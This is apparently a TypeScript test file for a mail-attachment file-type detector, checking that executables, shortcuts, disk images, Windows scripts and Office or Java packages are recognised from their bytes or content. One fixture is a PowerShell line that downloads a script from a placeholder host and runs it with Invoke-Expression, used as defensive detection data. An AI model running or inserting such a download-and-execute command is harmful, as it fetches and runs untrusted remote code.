import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { zipSync } from 'fflate';
import { categoryOf, detectFileType } from './file-kind.ts';

const text = (s: string) => new TextEncoder().encode(s);

async function typeOf(bytes: Uint8Array): Promise<string | undefined> {
  return (await detectFileType(bytes))?.ext;
}

function peStub(): Uint8Array {
  const bytes = new Uint8Array(256);
  bytes.set([0x4d, 0x5a]);
  bytes[0x3c] = 0x80;
  bytes.set([0x50, 0x45, 0, 0], 0x80);
  return bytes;
}

function at(size: number, offset: number, content: Uint8Array | string): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(typeof content === 'string' ? text(content) : content, offset);
  return bytes;
}

describe('detectFileType: binary formats mail malware hides in', () => {
  it('types a PE stub as a Windows executable', async () => {
    assert.equal(await typeOf(peStub()), 'exe');
    assert.equal(categoryOf(await detectFileType(peStub())), 'executable');
  });

  it('types a shell link by its header and a OneNote file by its GUID', async () => {
    const lnk = new Uint8Array(76);
    lnk.set([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
    assert.equal(await typeOf(lnk), 'lnk');
    const one = new Uint8Array(1024);
    one.set(Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'));
    assert.equal(await typeOf(one), 'one');
  });

  it('types disk images: ISO 9660, VHD footer, VHDX, FAT boot sector', async () => {
    assert.equal(await typeOf(at(0x9000, 0x8001, 'CD001')), 'iso');
    assert.equal(await typeOf(at(4096, 4096 - 512, 'conectix')), 'vhd');
    assert.equal(await typeOf(at(1024, 0, 'vhdxfile')), 'vhdx');
    const fat = at(1024, 0x36, 'FAT12   ');
    fat.set([0xeb, 0x3c, 0x90]);
    fat[510] = 0x55;
    fat[511] = 0xaa;
    assert.equal(await typeOf(fat), 'img');
    assert.equal(categoryOf(await detectFileType(fat)), 'disk-image');
  });
});

describe('detectFileType: text formats by what they say', () => {
  it('recognises Windows scripts by content', async () => {
    const jscript = 'var sh = new ActiveXObject("WScript.Shell");\nfunction run() { sh.Run("calc"); }\nWScript.Sleep(100);';
    assert.equal(await typeOf(text(jscript)), 'js');
    const vbs = 'On Error Resume Next\nDim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "notepad"';
    assert.equal(await typeOf(text(vbs)), 'vbs');
    const ps = '$c = New-Object System.Net.WebClient\n$s = $c.DownloadString("https://example.test/a")\nInvoke-Expression $s';
    assert.equal(await typeOf(text(ps)), 'ps1');
    assert.equal(await typeOf(text('@echo off\r\nset target=%~dp0\r\nstart /b notepad.exe\r\n')), 'bat');
    assert.equal(await typeOf(text('<html><head><hta:application id="a" /></head><body></body></html>')), 'hta');
    assert.equal(await typeOf(text('<job id="x"><script language="JScript">WScript.Echo(1);</script></job>')), 'wsf');
  });

  it('recognises web pages, SVG, calendars and internet shortcuts', async () => {
    assert.equal(await typeOf(text('Your file is ready\n<html><body><script>var a=1</script></body></html>')), 'html');
    assert.equal(await typeOf(text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>')), 'svg');
    assert.equal(await typeOf(text('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n')), 'ics');
    assert.equal(await typeOf(text('[InternetShortcut]\r\nURL=https://example.com/\r\n')), 'url');
  });

  it('leaves prose, CSV and a letter that mentions PowerShell untyped', async () => {
    assert.equal(await typeOf(text('Quarter,Revenue\nQ1,100\nQ2,120\n')), undefined);
    assert.equal(await typeOf(text('Hi team, run Start-Process from the admin console to restart the service.')), undefined);
  });

  it('tells Office packages, Java archives and plain zips apart', async () => {
    const types = (main: string) =>
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="${main}"/></Types>`;
    const docx = zipSync({
      '[Content_Types].xml': text(types('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')),
    });
    const xlsm = zipSync({ '[Content_Types].xml': text(types('application/vnd.ms-excel.sheet.macroEnabled.main+xml')) });
    const jar = zipSync({
      'META-INF/MANIFEST.MF': text('Manifest-Version: 1.0\n'),
      'a/Main.class': new Uint8Array([0xca, 0xfe, 0xba, 0xbe]),
    });
    assert.deepEqual([await typeOf(docx), await typeOf(xlsm), await typeOf(jar)], ['docx', 'xlsm', 'jar']);
  });

  it('keeps what file-type knows: PDF, and a zip that is a zip', async () => {
    assert.equal(await typeOf(text('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n')), 'pdf');
    assert.equal(await typeOf(zipSync({ 'figures.csv': text('a,b\n1,2\n') })), 'zip');
  });
});
